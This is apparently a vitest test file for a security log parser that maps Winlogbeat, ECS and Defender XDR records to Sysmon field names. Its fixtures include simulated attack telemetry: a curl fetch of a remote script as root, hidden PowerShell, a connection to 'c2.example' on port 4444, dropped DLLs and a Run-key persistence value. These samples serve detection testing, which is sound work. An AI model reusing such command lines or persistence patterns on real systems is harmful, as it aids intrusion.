import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { classifyRecord } from '../../src/sources/index.js';
import { collect, fixture } from './collect.js';

const tmp = mkdtempSync(join(tmpdir(), 'tripline-json-'));
function write(name: string, content: string | Buffer): string {
  const path = join(tmp, name);
  writeFileSync(path, content);
  return path;
}

describe('Winlogbeat and ECS (winlogbeat-ecs.jsonl)', async () => {
  const { events, skips } = await collect(fixture('winlogbeat-ecs.jsonl'));

  it('reads all lines without skips', () => {
    expect(skips).toEqual([]);
    expect(events.map((e) => e.logsource.category)).toEqual([
      'process_creation',
      'process_creation',
      'network_connection',
      'dns_query',
      'file_event',
      'image_load',
      'registry_set',
    ]);
  });

  it('maps Winlogbeat winlog.* and event_data through the Windows mapper, ECS filling the gaps', () => {
    const e = events[0];
    expect(e.logsource).toEqual({ product: 'windows', service: 'sysmon', category: 'process_creation' });
    expect(e.host).toBe('WS03.corp.local');
    expect(e.timestamp).toBe(Date.UTC(2024, 2, 1, 11));
    expect(e.fields).toMatchObject({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: 'WS03.corp.local',
      EventRecordID: 9090,
      Execution_ProcessID: 2840,
      Security_UserID: 'S-1-5-18',
      IntegrityLevel: 'High',
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c net user',
      ParentImage: 'C:\\Program Files\\App\\updater.exe',
      ParentCommandLine: 'updater.exe /silent',
      ProcessId: 5555,
      ParentProcessId: 4444,
      OriginalFileName: 'Cmd.Exe',
      User: 'CORP\\dave',
      Hashes: 'SHA256=AA11',
    });
  });

  it('maps pure ECS process, network, DNS, file, library and registry events', () => {
    expect(events[1].logsource).toEqual({ product: 'linux', category: 'process_creation' });
    expect(events[1].fields).toMatchObject({
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://x/a.sh',
      ProcessId: 812,
      ProcessGuid: 'e-812',
      CurrentDirectory: '/tmp',
      ParentImage: '/usr/bin/bash',
      ParentCommandLine: 'bash -c install.sh',
      ParentProcessId: 800,
      User: 'root',
      Hashes: 'MD5=0A,SHA256=BB',
      'process.executable': '/usr/bin/curl',
    });
    expect(events[1].host).toBe('lin01');
    expect(events[2].fields).toMatchObject({
      DestinationIp: '203.0.113.9',
      DestinationPort: 8443,
      DestinationHostname: 'x.example',
      SourceIp: '10.0.0.5',
      SourcePort: 50000,
      Protocol: 'tcp',
      Initiated: 'true',
    });
    expect(events[3].fields).toMatchObject({ QueryName: 'evil.example', QueryResults: '198.51.100.1;198.51.100.2' });
    expect(events[3].logsource.product).toBe('windows');
    expect(events[4].fields).toMatchObject({ TargetFilename: 'C:\\Temp\\drop.dll', Image: 'C:\\x.exe' });
    expect(events[5].fields).toMatchObject({ ImageLoaded: 'C:\\Temp\\drop.dll', Hashes: 'SHA256=CC' });
    expect(events[6].fields).toMatchObject({ TargetObject: 'HKLM\\Software\\Run\\x', Details: ['C:\\x.exe'] });
  });
});

describe('Defender XDR Advanced Hunting (mde-events.json, mde-process.csv)', async () => {
  const json = await collect(fixture('mde-events.json'));
  const csv = await collect(fixture('mde-process.csv'));

  it('maps DeviceProcessEvents columns to Sysmon names', () => {
    const e = json.events[0];
    expect(e.logsource).toEqual({ product: 'windows', category: 'process_creation' });
    expect(e.host).toBe('ws04.corp.local');
    expect(e.timestamp).toBe(Date.UTC(2024, 2, 1, 12));
    expect(e.fields).toMatchObject({
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell.exe -nop -w hidden',
      ProcessId: 6001,
      ParentImage: 'C:\\Users\\erin\\Downloads\\setup.exe',
      ParentCommandLine: 'setup.exe /S',
      ParentProcessId: 6000,
      GrandParentImage: 'explorer.exe',
      User: 'corp\\erin',
      ParentUser: 'corp\\erin',
      IntegrityLevel: 'High',
      OriginalFileName: 'PowerShell.EXE',
      Company: 'Microsoft Corporation',
      Product: 'Microsoft Windows Operating System',
      Description: 'Windows PowerShell',
      FileVersion: '10.0',
      Hashes: 'SHA1=AB12,MD5=EF56,SHA256=CD34',
      LogonId: 999,
      Computer: 'ws04.corp.local',
      ProcessCommandLine: 'powershell.exe -nop -w hidden',
    });
  });

  it('maps network, file, image load and registry rows', () => {
    const [, net, file, image, reg] = json.events;
    expect(net.logsource.category).toBe('network_connection');
    expect(net.fields).toMatchObject({
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      DestinationIp: '203.0.113.7',
      DestinationPort: 4444,
      DestinationHostname: 'c2.example',
      SourceIp: '10.1.1.4',
      SourcePort: 51000,
      Protocol: 'tcp',
      Initiated: 'true',
      User: 'corp\\erin',
    });
    expect(file.logsource.category).toBe('file_event');
    expect(file.fields).toMatchObject({ TargetFilename: 'C:\\Temp\\a.dll', ProcessId: 6001 });
    expect(image.logsource.category).toBe('image_load');
    expect(image.fields).toMatchObject({
      ImageLoaded: 'C:\\Temp\\a.dll',
      Image: 'C:\\Windows\\System32\\rundll32.exe',
    });
    expect(reg.logsource.category).toBe('registry_set');
    expect(reg.fields).toMatchObject({
      TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      Details: 'C:\\Temp\\u.exe',
      EventType: 'SetValue',
    });
  });

  it('reports the array element that is not an object', () => {
    expect(json.skips).toEqual([
      {
        file: fixture('mde-events.json'),
        line: 7,
        offset: expect.any(Number),
        reason: expect.stringMatching(/^not a JSON object/),
      },
    ]);
  });

  it('maps the CSV export the same way, joining a folder-only path with the file name', () => {
    expect(csv.skips).toEqual([]);
    expect(csv.events.map((e) => e.origin.line)).toEqual([2, 3]);
    expect(csv.events[0].fields).toMatchObject({
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c "echo a,b"',
      ParentImage: 'C:\\Users\\erin\\Downloads\\setup.exe',
      ProcessId: '6001',
      Hashes: 'SHA1=AB12',
    });
    expect(csv.events[1].fields).not.toHaveProperty('SHA1');
    expect(csv.events[1].fields.ParentImage).toBe('C:\\Windows\\System32\\cmd.exe');
  });
});

describe('generic JSON and overrides', () => {
  it('flattens unknown records with dotted keys and applies the caller logsource', async () => {
    const path = write('generic.jsonl', '{"a":{"b":1},"host":"h1","timestamp":"2024-01-01T00:00:00Z"}\n');
    const plain = await collect(path);
    expect(plain.events[0]).toMatchObject({
      fields: { 'a.b': 1 },
      logsource: {},
      host: 'h1',
      timestamp: Date.UTC(2024, 0, 1),
    });
    const forced = await collect(path, { logsource: { product: 'linux', category: 'proxy' } });
    expect(forced.events[0].logsource).toEqual({ product: 'linux', category: 'proxy' });
  });

  it('reads a pretty-printed JSON document and concatenated objects', async () => {
    const path = write(
      'pretty.json',
      '{\n  "EventID": 1,\n  "Channel": "Microsoft-Windows-Sysmon/Operational",\n  "Image": "C:\\\\a.exe",\n  "Hostname": "h"\n}\n{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational"}',
    );
    const { events, skips } = await collect(path);
    expect(skips).toEqual([]);
    expect(events.map((e) => e.logsource.category)).toEqual(['process_creation', 'network_connection']);
    expect(events[0]).toMatchObject({ fields: { Image: 'C:\\a.exe', Computer: 'h' }, host: 'h', origin: { line: 1 } });
    expect(events[1].origin.line).toBe(7);
  });

  it('forces a record kind with --source names', async () => {
    const path = write('forced.jsonl', '{"EventID": 4688, "Channel": "Security", "NewProcessName": "C:\\\\x.exe"}\n');
    const { events } = await collect(path, { format: 'sysmon-json' });
    expect(events[0]).toMatchObject({ fields: { Image: 'C:\\x.exe' }, logsource: { category: 'process_creation' } });
    const wrong = await collect(fixture('auditd.log'), { format: 'ecs' });
    expect(wrong.events).toEqual([]);
    expect(wrong.skips[0].reason).toMatch(/--source ecs reads JSON/);
  });

  it('classifies record shapes', () => {
    expect(classifyRecord({ Event: { System: {} } })).toBe('evtx-json');
    expect(classifyRecord({ winlog: { event_id: 1 } })).toBe('winlogbeat');
    expect(classifyRecord({ 'winlog.channel': 'Security' })).toBe('winlogbeat');
    expect(classifyRecord({ ActionType: 'x', DeviceName: 'd', InitiatingProcessFileName: 'p' })).toBe('mde');
    expect(classifyRecord({ EventID: 1, Channel: 'c' })).toBe('sysmon-json');
    expect(classifyRecord({ '@timestamp': 't', event: { category: 'process' } })).toBe('ecs');
    expect(classifyRecord({ x: 1 })).toBe('generic');
  });

  it('skips JSON lines that are not objects, and oversized JSON values', async () => {
    const lines = await collect(write('scalars.jsonl', '{"a":1}\n[1,2]\n"x"\n'));
    expect(lines.events).toHaveLength(1);
    expect(lines.skips.map((s) => [s.line, s.reason])).toEqual([
      [2, 'record is not an object (array)'],
      [3, 'record is not an object (string)'],
    ]);
    const big = await collect(write('big.json', `[{"a":"${'x'.repeat(5000)}"},{"b":2}]`), { maxRecordBytes: 1000 });
    expect(big.events.map((e) => e.fields)).toEqual([{ b: 2 }]);
    expect(big.skips[0]).toMatchObject({ line: 1, offset: 1, reason: expect.stringMatching(/exceeds 1000/) });
  });

  it('reports a bad CSV record with its line and keeps going', async () => {
    const path = write('bad.csv', 'a,b\n1,2\n"3,4\n');
    const { events, skips } = await collect(path);
    expect(events[0].fields).toEqual({ a: '1', b: '2' });
    expect(skips.length).toBeGreaterThanOrEqual(1);
  });
});
